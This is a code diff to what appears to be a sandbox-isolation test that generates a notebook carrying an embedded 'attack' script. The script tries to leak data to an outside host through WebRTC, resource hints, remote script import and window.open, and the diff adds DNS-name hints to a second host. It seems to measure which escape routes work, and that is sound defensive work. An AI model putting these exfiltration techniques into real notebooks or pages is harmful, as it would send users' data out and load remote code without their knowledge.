@@ -148,7 +148,7 @@ function contentOf(type, elsewhere) {
 function notebook(elsewhere) {
   const output = `${markup(elsewhere).filter((it) => !/<script/u.test(it)).join("\n")}
     <p id="tried">not yet</p>
-    <script>(${attack})(${JSON.stringify(elsewhere)}, ${JSON.stringify(SEEN.notebook)});</script>`;
+    <script>(${attack})(${[elsewhere, NOWHERE, SEEN.notebook].map((it) => JSON.stringify(it))});</script>`;
   return {
     nbformat: 4,
     nbformat_minor: 5,
@@ -187,7 +187,7 @@ function notebook(elsewhere) {
 }
 
 /** Runs in the notebook's page: tries everything, and writes down what came of it. */
-async function attack(elsewhere, colour) {
+async function attack(elsewhere, nowhere, colour) {
   const tried = {};
   const attempt = async (name, body) => {
     try {
@@ -231,13 +231,19 @@ async function attack(elsewhere, colour) {
     peer.createDataChannel("leak");
     return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
   });
-  await attempt("hints", () => {
+  const hint = (address) => {
     for (const rel of ["dns-prefetch", "preconnect", "prefetch", "prerender"]) {
       const link = document.createElement("link");
-      Object.assign(link, { rel, href: `${elsewhere}/hint?${leak}` });
+      Object.assign(link, { rel, href: address });
       document.head.append(link);
     }
-  });
+  };
+  await attempt("hints", () => hint(`${elsewhere}/hint?${leak}`));
+  // WebKit looks every few seconds whether there is a proxy, and takes its time for the answer.
+  for (let time = 0; time < 4; time += 1) {
+    await attempt("hints of names", () => hint(`https://hint-${time}.${nowhere}/`));
+    await new Promise((resolve) => setTimeout(resolve, 2000));
+  }
   await attempt("script", () => import(`${elsewhere}/script.js?${leak}`));
   await attempt("window", () => window.open(`${elsewhere}/window?${leak}`));
   await attempt("top", () => {
